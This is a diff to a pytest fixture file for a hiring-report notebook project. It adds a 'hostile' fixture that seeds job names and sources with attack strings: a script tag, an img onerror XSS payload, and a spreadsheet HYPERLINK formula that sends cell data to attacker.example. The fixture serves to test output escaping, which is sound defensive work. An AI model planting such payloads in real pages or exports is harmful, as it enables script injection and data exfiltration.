@@ -12,7 +12,10 @@ import duckdb
 import pandas as pd
 import pytest
 
+from notebooks.kernel import ROOT, shared_kernel
+from notebooks.page import page_of, together
 from notebooks.published import Published
+from notebooks.report import PAGES, Report, report
 
 STAGES = ["applied", "screening", "interview", "hired"]
 AS_OF = datetime(2026, 10, 31, 12, tzinfo=UTC)
@@ -134,7 +137,7 @@ def write(
         )
         connection.execute(COHORT, {"stages": STAGES})
         connection.execute(
-            "insert into freshness values ($1, $1 - interval 170 day, 1000)", [as_of]
+            "insert into freshness values ($1, $1::timestamptz - interval 170 day, 1000)", [as_of]
         )
     return path
 
@@ -183,3 +186,66 @@ def publish(tmp_path: Path) -> Callable[..., Path]:
 def opened(publish_year: Path) -> Iterator[Published]:
     with Published.open(publish_year) as data:
         yield data
+
+
+@pytest.fixture(scope="session")
+def made(tmp_path_factory: pytest.TempPathFactory, publish_year: Path) -> Report:
+    """One report of the year, which several tests read."""
+    return report(publish_year, tmp_path_factory.mktemp("out") / "reports")
+
+
+@pytest.fixture(scope="session")
+def render(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[Path], str]]:
+    """All notebooks over a published file, in a kernel that the session shares: report.html."""
+    scratch = tmp_path_factory.mktemp("kernel")
+
+    with shared_kernel(scratch) as kernel:
+
+        def render(published: Path, *only: str) -> str:
+            given = {"published": str(published), "filters": {}, "timezone": "UTC"}
+            pages = [
+                page_of(
+                    name, title, kernel.run(ROOT / f"{name}.ipynb", scratch / "out.ipynb", given)
+                )
+                for name, title in PAGES.items()
+                if name in (only or PAGES)
+            ]
+            return together(pages, "foot")
+
+        yield render
+
+
+SCRIPT = "<script>document.title='owned'</script>"
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
+ARABIC = "مهندس برمجيات أول"
+LONG = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamten" * 3
+
+
+@pytest.fixture(scope="session")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """500 jobs, with names that attack the page and the spreadsheet, long and right-to-left."""
+    names = [SCRIPT, FORMULA, ARABIC, LONG, '"><img src=x onerror=alert(1)>', "日本語の求人", ""]
+    jobs = {
+        f"job-{number}": {"title": names[number] if number < len(names) else f"Job {number}"}
+        for number in range(500)
+    }
+    jobs["job-0"]["sector"] = jobs["job-1"]["city"] = SCRIPT
+    jobs["job-2"]["sector"] = FORMULA
+    applications = [
+        application(
+            job=f"job-{number % 500}",
+            month=5 + number % 6,
+            day=1 + number % 19,
+            reached=number % 4 if number % 500 else 0,
+            outcome=("hired", "rejected", "open")[number % 3] if number % 4 == 3 else "rejected",
+            source=[SCRIPT, FORMULA, ARABIC, "Indeed"][number % 4],
+        )
+        for number in range(1500)
+    ]
+    applications += [application(job=f"job-{number}", day=4, reached=2) for number in range(7)] * 5
+    return write(tmp_path_factory.mktemp("hostile") / "hiring.duckdb", applications, jobs)
+
+
+@pytest.fixture(scope="session")
+def hostile_page(render: Callable[..., str], hostile: Path) -> str:
+    return render(hostile)
